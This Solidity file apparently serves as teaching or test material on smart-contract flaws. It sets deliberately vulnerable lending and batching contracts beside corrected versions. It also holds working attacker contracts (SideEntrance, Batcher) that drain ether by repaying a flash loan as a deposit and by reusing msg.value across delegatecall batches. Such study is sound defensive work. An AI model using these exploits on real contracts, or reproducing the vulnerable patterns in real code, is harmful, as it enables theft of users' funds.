// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

interface IBorrower {
    function borrowed() external payable;
}

/// @notice VULNERABLE (side entrance): a loan that is out may come back as a deposit.
contract EtherLender {
    mapping(address => uint256) public balances;
    bool internal lent;

    function deposit() external payable virtual {
        balances[msg.sender] += msg.value;
    }

    function repay() external payable {}

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        balances[msg.sender] = 0;
        (bool sent,) = msg.sender.call{value: amount}("");
        require(sent, "not sent");
    }

    function lend(uint256 amount) external {
        uint256 before = address(this).balance;
        lent = true;
        IBorrower(msg.sender).borrowed{value: amount}();
        lent = false;
        require(address(this).balance >= before, "not paid back");
    }
}

/// @notice The same, corrected: no deposits while a loan is out.
contract EtherLenderFixed is EtherLender {
    function deposit() external payable override {
        require(!lent, "a loan is out");
        balances[msg.sender] += msg.value;
    }
}

/// @notice Pays a loan back by a deposit, and takes the deposit out.
contract SideEntrance is IBorrower {
    EtherLender private lender;

    function run(EtherLender lender_) external {
        lender = lender_;
        lender.lend(address(lender).balance);
        lender.withdraw();
        (bool sent,) = msg.sender.call{value: address(this).balance}("");
        require(sent, "not sent");
    }

    function borrowed() external payable {
        lender.deposit{value: msg.value}();
    }

    receive() external payable {}
}

/// @notice Pays a loan back as it should, and deposits ether of its own meanwhile.
contract HonestBorrower is IBorrower {
    EtherLender private lender;

    function run(EtherLender lender_) external payable {
        lender = lender_;
        lender.lend(address(lender).balance / 2);
    }

    function borrowed() external payable {
        lender.deposit{value: address(this).balance - msg.value}();
        lender.repay{value: msg.value}();
    }
}

/// @notice VULNERABLE (value extraction): calls in a batch all see the same ether.
contract BatchBank is EtherLender {
    function batch(bytes[] calldata calls) external payable virtual {
        for (uint256 i = 0; i < calls.length; ++i) {
            (bool done,) = address(this).delegatecall(calls[i]);
            require(done, "failed");
        }
    }
}

/// @notice The same, corrected: a batch brings no ether.
contract BatchBankFixed is BatchBank {
    function batch(bytes[] calldata calls) external payable override {
        require(msg.value == 0, "no ether");
        for (uint256 i = 0; i < calls.length; ++i) {
            (bool done,) = address(this).delegatecall(calls[i]);
            require(done, "failed");
        }
    }
}

/// @notice Deposits the same ether as often as it is told, and takes out what it is credited.
contract Batcher {
    uint256 public failures;

    function run(BatchBank bank, uint256 times) external payable {
        bytes[] memory calls = new bytes[](times);
        for (uint256 i = 0; i < times; ++i) {
            calls[i] = abi.encodeCall(bank.deposit, ());
        }
        try bank.batch{value: msg.value}(calls) {} catch {
            ++failures;
            bank.deposit{value: msg.value}();
        }
        bank.withdraw();
        (bool sent,) = msg.sender.call{value: address(this).balance}("");
        require(sent, "not sent");
    }

    receive() external payable {}
}
